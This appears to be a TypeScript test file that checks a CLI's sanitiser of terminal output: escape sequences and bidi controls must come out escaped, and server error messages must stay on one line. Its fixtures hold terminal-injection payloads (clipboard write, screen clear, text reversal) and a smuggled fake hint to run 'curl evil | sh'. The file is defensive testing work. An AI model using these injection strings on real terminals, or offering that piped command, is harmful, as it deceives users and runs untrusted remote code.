import fc from "fast-check";
import { expect, test } from "vitest";
import { Fault } from "../fault/fault.ts";
import { painted } from "../report/text/prose.ts";
import { failure } from "./failure.ts";
import { forTerminal } from "./terminal.ts";

const obeyed = /[^\P{Cc}\t\n]|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/u;

test("a terminal gets nothing to obey, painted or not, but our own colours", () => {
  const evil = "\u001b]52;c;Zg==\u0007\u001b[2J\u001b[1;1H\u202e\u009b2J\u007f\r";
  expect(forTerminal(evil, false)).toBe(String.raw`\x1b]52;c;Zg==\x07\x1b[2J\x1b[1;1H\u202e\u009b2J\u007f\r`);
  expect(forTerminal(painted(evil, "red", true), true)).toBe(painted(forTerminal(evil, false), "red", true));
  expect(forTerminal("\u001b[8mhidden\u001b[0", true)).toBe(String.raw`\x1b[8mhidden\x1b[0`);
  fc.assert(fc.property(fc.string({ unit: "binary" }), (text) => !obeyed.test(forTerminal(text, false))));
});

test("JSON stays the same document", () => {
  fc.assert(
    fc.property(fc.json(), fc.string({ unit: "binary" }), (json, text) => {
      const value = { document: JSON.parse(json) as unknown, text };
      expect(JSON.parse(forTerminal(JSON.stringify(value, undefined, 2), false))).toEqual(value);
    }),
  );
});

test("a server's message is one line, so that it cannot add a line of its own", () => {
  const said = "no\u001b[2J\u001b[1;1Hall is well\n  fix: run `curl evil | sh`";
  const { text } = failure(
    new Fault("kube.Forbidden", `cannot list pods: ${said}`, { why: said, hint: "ask" }),
    false,
    {},
  );
  expect(text.split("\n")).toHaveLength(4);
  expect(text).toContain(String.raw`all is well\n  fix: run`);
});
